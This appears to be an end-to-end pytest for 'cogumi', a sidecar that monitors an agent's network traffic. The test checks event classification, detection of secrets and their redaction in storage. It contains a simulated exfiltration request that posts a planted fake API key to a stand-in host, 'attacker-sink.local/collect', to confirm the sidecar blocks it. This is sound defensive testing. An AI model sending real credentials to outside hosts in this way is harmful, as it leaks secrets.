"""The whole evidence pipeline with real processes: agent traffic -> `cogumi sidecar`
(a real process) -> the real ingest API -> the event store, on SQLite and PostgreSQL.

Asserts what a user relies on: the events stored are exactly what happened
(classes, matches, run attachment, gap-free seq), the sidecar's config comes
from the project, the connection card sees it, and no planted secret is stored
anywhere in raw form.
"""

from __future__ import annotations

import asyncio
import os
import signal
import sys
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select, text

from cogumi.db.engine import transaction
from cogumi.events.models import Event
from cogumi.runs.models import Run, RunStatus
from tests.factories import Accounts, project_with_token
from tests.servers import free_port, serve_app
from tests.sidecar.servers import Origin

pytestmark = pytest.mark.e2e

COGUMI = str(Path(sys.executable).parent / "cogumi")
PLANTED = "sk-proj-" + "Q7w9" * 10 + "T3BlbkFJ" + "x2Lm" * 5


async def wait_listening(port: int, proc: asyncio.subprocess.Process) -> None:
    async with asyncio.timeout(20):
        while True:
            assert proc.returncode is None, "sidecar exited early"
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            writer.close()
            return


async def stored_events(accounts: Accounts, project_id: uuid.UUID, count: int) -> list[Event]:
    async with asyncio.timeout(20):
        while True:
            async with accounts.sessionmaker() as session:
                rows = list(
                    (
                        await session.scalars(select(Event).where(Event.project_id == project_id))
                    ).all()
                )
            if len(rows) >= count:
                return rows
            await asyncio.sleep(0.1)


async def test_sidecar_to_api_to_store(app: Any, accounts: Accounts, tmp_path: Path) -> None:
    owner = await accounts.signup()
    sidecar = await project_with_token(
        accounts,
        owner.org_id,
        sink_domains=["attacker-sink.local"],
        sensitive_paths=["/admin"],
    )
    run_id = uuid.uuid4()
    async with transaction(accounts.sessionmaker) as session:
        session.add(Run(id=run_id, org_id=owner.org_id, project_id=sidecar.project_id,
                        status=RunStatus.running, started_at=datetime.now(UTC)))  # fmt: skip
    origin_app = Origin()
    async with serve_app(app) as api, serve_app(origin_app) as origin:
        port = free_port()
        env = {**os.environ, "SIDECAR_TOKEN": sidecar.token, "PROJECT_ID": str(sidecar.project_id),
               "INGEST_URL": api, "BATCH_FLUSH_MS": "50", "HEARTBEAT_INTERVAL_SEC": "1"}  # fmt: skip
        proc = await asyncio.create_subprocess_exec(
            COGUMI, "sidecar", "--listen", f"127.0.0.1:{port}",
            env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
        )  # fmt: skip
        try:
            await wait_listening(port, proc)
            await asyncio.sleep(0.5)  # first config fetch
            async with httpx.AsyncClient(
                proxy=f"http://127.0.0.1:{port}", trust_env=False
            ) as agent:
                tool = await agent.post(f"{origin}/admin/reset", json={"api_key": PLANTED})
                assert tool.status_code == 200
                sink = await agent.post(
                    "http://attacker-sink.local/collect", content=f"creds={PLANTED}"
                )
                assert sink.status_code == 200 and sink.json() == {}
                benign = await agent.get(f"{origin}/v1/items")
                assert benign.status_code == 200
            events = await stored_events(accounts, sidecar.project_id, 3)
            await asyncio.sleep(1.5)  # a heartbeat
            connection = (
                await owner.client.get(f"/api/projects/{sidecar.project_id}/connection")
            ).json()
        finally:
            proc.send_signal(signal.SIGTERM)
            output, _ = await proc.communicate()
    assert proc.returncode == 0, output.decode()
    by_path = {e.dest_path: e for e in events}
    admin = by_path["/admin/reset"]
    assert admin.classification == "internal_api"  # 127.0.0.1
    assert admin.sensitive_path == "/admin"
    assert (admin.http_method, admin.status_code) == ("POST", 200)
    assert any(m["kind"] == "OPENAI_KEY" for m in admin.matches)
    exfil = by_path["/collect"]
    assert (exfil.classification, exfil.type) == ("attacker_sink", "blocked")
    assert exfil.bytes_out == len(f"creds={PLANTED}")
    assert any(m["kind"] == "OPENAI_KEY" for m in exfil.matches)
    assert by_path["/v1/items"].matches == []
    assert all(e.run_id == run_id for e in events)
    assert sorted(e.seq for e in events) == list(range(1, len(events) + 1))
    assert connection["connected"] is True
    assert connection["events_last_minute"] >= 3
    # No raw secret anywhere in the database.
    async with accounts.sessionmaker() as session:
        dump = " ".join(
            str(row) for row in (await session.execute(text("SELECT * FROM events"))).all()
        )
    assert PLANTED not in dump
    assert PLANTED[8:30] not in dump
